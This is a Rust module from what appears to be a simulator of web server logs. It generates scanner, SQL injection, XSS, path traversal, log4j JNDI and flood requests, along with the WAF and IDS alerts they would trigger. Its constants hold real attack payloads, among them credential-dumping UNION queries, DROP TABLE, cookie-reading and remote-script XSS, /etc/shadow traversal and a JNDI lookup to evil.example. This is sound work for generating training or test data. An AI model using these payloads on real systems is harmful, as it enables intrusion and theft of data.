//! Acts of scanners, injectors and floods, and what WAF and IDS say of them. Pure.

use super::cast::{POLLER, VISITORS, visitor};
use super::line::Request;
use super::site::{BROWSERS, EXTENSIONS, WORDS};
use super::stage::{Signature, Stage, WafRule};
use super::web::get;

const SQL: [&str; 10] = [
    "1%27%20OR%20%271%27%3D%271",
    "12%20AND%201%3D1",
    "12%20AND%208573%3D2210",
    "12%20UNION%20ALL%20SELECT%20NULL%2CNULL--",
    "-9041%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--",
    "12%3BSELECT%20PG_SLEEP%285%29--",
    "12%20AND%20SLEEP%285%29",
    "12%27%29%20ORDER%20BY%2010--%20-",
    "12%20OR%20EXISTS%28SELECT%20%2A%20FROM%20information_schema.tables%29",
    "12%27%3B%20DROP%20TABLE%20orders%3B--",
];

const SCRIPTS: [&str; 8] = [
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "%3Csvg%2Fonload%3Dalert%28document.domain%29%3E",
    "javascript%3Aalert(document.cookie)",
    "%27%3E%3Ciframe%20src%3Djavascript%3Aalert(1)%3E",
    "%3Cbody%20onload%3Dalert(1)%3E",
    "%3Cscript%20src%3D%2F%2Fevil.example%2Fx.js%3E%3C%2Fscript%3E",
    "%3Cinput%20autofocus%20onfocus%3Dalert(1)%3E",
];

const TRAVERSALS: [&str; 8] = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/etc/shadow",
    "..%252f..%252f..%252fetc%252fpasswd",
    "....//....//....//etc/hosts",
    "..%5c..%5c..%5cwindows%5cwin.ini",
    "/proc/self/environ",
    "..%c0%af..%c0%af..%c0%afetc/passwd",
];

const SQL_RULE: WafRule = WafRule {
    id: "942100",
    message: "SQL Injection Attack Detected via libinjection",
    file: "REQUEST-942-APPLICATION-ATTACK-SQLI.conf",
    tag: "attack-sqli",
};
const SCRIPT_RULE: WafRule = WafRule {
    id: "941100",
    message: "XSS Attack Detected via libinjection",
    file: "REQUEST-941-APPLICATION-ATTACK-XSS.conf",
    tag: "attack-xss",
};
const TRAVERSAL_RULE: WafRule = WafRule {
    id: "930100",
    message: "Path Traversal Attack (/../) or (/.../)",
    file: "REQUEST-930-APPLICATION-ATTACK-LFI.conf",
    tag: "attack-lfi",
};

/// A TLS 1.2 greeting as nginx writes it where it expects a request line.
const TLS_GREETING: &str = r"\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03\xB7R\x9E\x13\x84\xC0\x0A\x00\x22";

/// Guesses one path that is not there.
pub(super) fn scan_content(stage: &mut Stage<'_>, client: &str, step: u32) {
    let word = WORDS[step as usize % WORDS.len()];
    let extension = EXTENSIONS[step as usize / WORDS.len() % EXTENSIONS.len()];
    get(stage, client, &format!("/{word}{extension}"), 404, BROWSERS[5]);
}

/// A known tool by its own name.
pub(super) fn sqlmap(stage: &mut Stage<'_>, client: &str, step: u32) {
    let payload = SQL[step as usize % SQL.len()];
    probe(stage, client, &format!("/products/12?id={payload}"), "sqlmap/1.8.2#stable (https://sqlmap.org)", SQL_RULE);
}

/// SQL by hand, with a browser's name.
pub(super) fn inject(stage: &mut Stage<'_>, client: &str, step: u32) {
    let payload = SQL[step as usize % SQL.len()];
    probe(stage, client, &format!("/search?q={payload}&page={step}"), BROWSERS[1], SQL_RULE);
}

/// Scripts in a parameter.
pub(super) fn script(stage: &mut Stage<'_>, client: &str, step: u32) {
    let payload = SCRIPTS[step as usize % SCRIPTS.len()];
    probe(stage, client, &format!("/search?q={payload}&n={step}"), BROWSERS[4], SCRIPT_RULE);
}

/// Paths out of the site.
pub(super) fn traverse(stage: &mut Stage<'_>, client: &str, step: u32) {
    let payload = TRAVERSALS[step as usize % TRAVERSALS.len()];
    probe(stage, client, &format!("/download?file={payload}"), BROWSERS[6], TRAVERSAL_RULE);
}

/// What the IDS knows by signature.
pub(super) fn exploit(stage: &mut Stage<'_>, client: &str) {
    let target = "/?x=${jndi:ldap://evil.example:1389/a}";
    get(stage, client, target, 200, BROWSERS[0]);
    let text = "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)";
    let category = "Attempted Administrator Privilege Gain";
    stage.ids(client, Signature { id: 2_034_647, text, category, severity: 1 });
}

/// As many requests as the line carries.
pub(super) fn flood(stage: &mut Stage<'_>, client: &str) {
    get(stage, client, "/", 200, BROWSERS[6]);
}

/// TLS where none is spoken.
pub(super) fn speak_tls(stage: &mut Stage<'_>, client: &str) {
    let line = TLS_GREETING;
    stage.request(Request { client, line, status: 400, bytes: 157, referrer: "-", agent: "-" });
}

/// What the IDS sees of ordinary traffic: handshakes, and now and then a note that means little.
pub(super) fn sensor(stage: &mut Stage<'_>, step: u32) {
    if step % 40 == 39 {
        let text = "ET INFO okhttp User-Agent Outbound";
        stage.ids(POLLER, Signature { id: 2_013_030, text, category: "Misc activity", severity: 3 });
    } else {
        // Odd numbers come by IPv4, as the server's address in these flows does.
        let client = visitor(stage.random.below(VISITORS) | 1);
        stage.tls(&client);
    }
}

/// A request with a payload: the WAF refuses most of them and says why.
fn probe(stage: &mut Stage<'_>, client: &str, target: &str, agent: &str, rule: WafRule) {
    if stage.random.percent(70) {
        get(stage, client, target, 403, agent);
        stage.waf(client, target, agent, rule);
    } else {
        get(stage, client, target, 200, agent);
    }
}
